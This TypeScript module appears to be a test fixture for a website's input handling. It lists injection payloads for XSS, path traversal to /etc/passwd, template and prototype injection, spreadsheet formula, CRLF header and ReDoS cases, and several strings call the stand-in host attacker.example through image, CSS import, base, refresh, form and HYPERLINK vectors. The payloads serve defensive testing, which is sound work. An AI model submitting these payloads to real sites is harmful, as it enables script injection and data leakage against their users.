/**
 * What a hostile hand writes where a text is expected: one list for every input of the site. Whatever of it runs sets
 * `window.hit`, and whatever asks for something asks `attacker.example`.
 */
export const ATTACKS = {
  script: `<script>window.hit='script'</script>`,
  title: `<script>document.title='x'</script>`,
  image: '<img src=x onerror=hit=1>',
  dialog: '<img src=x onerror=alert(1)>',
  breakOut: '"><svg onload=hit=1>',
  apostrophe: "' autofocus onfocus=hit=1 x='",
  comment: '--><script>hit=1</script><!--',
  element: '</script></title></textarea></style><script>hit=1</script>',
  frame: '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  style: '</style><style>@import "https://attacker.example/x.css"</style>',
  remote: '<img src=https://attacker.example/leak>',
  base: '<base href=https://attacker.example/>',
  refresh: '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  form: '<form action=https://attacker.example/><input name=q autofocus onfocus=hit=1>',
  vector: '<svg><a xlink:href="javascript:hit=1"><text>x</text></a></svg>',
  link: 'javascript:hit=1',
  call: 'javascript:alert(1)',
  hiddenLink: 'java\tscript:hit=1',
  data: 'data:text/html,<script>parent.hit=1</script>',
  address: 'https://attacker.example/',
  host: '//attacker.example/',
  climb: '../../../../etc/passwd',
  entity: '&lt;script&gt;hit=1&lt;/script&gt;',
  template: "{{constructor.constructor('hit=1')()}}",
  literal: '${hit=1}',
  prototype: '__proto__',
  constructor: 'constructor',
  formula: '=HYPERLINK("https://attacker.example/","x")',
  command: '=cmd()',
  at: '@SUM(1+1)*cmd',
  pattern: '(((a+)+)+$[',
  direction: 'evil\u202egnp.example',
  colour: '\u001b[31mred',
  nothing: 'a\u0000b',
  header: 'a\r\nSet-Cookie: hit=1',
  long: 'x'.repeat(3000)
} as const;

export const ALL_ATTACKS: readonly string[] = Object.values(ATTACKS);

/** Attacks as the cell of a table is written. */
export const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`;
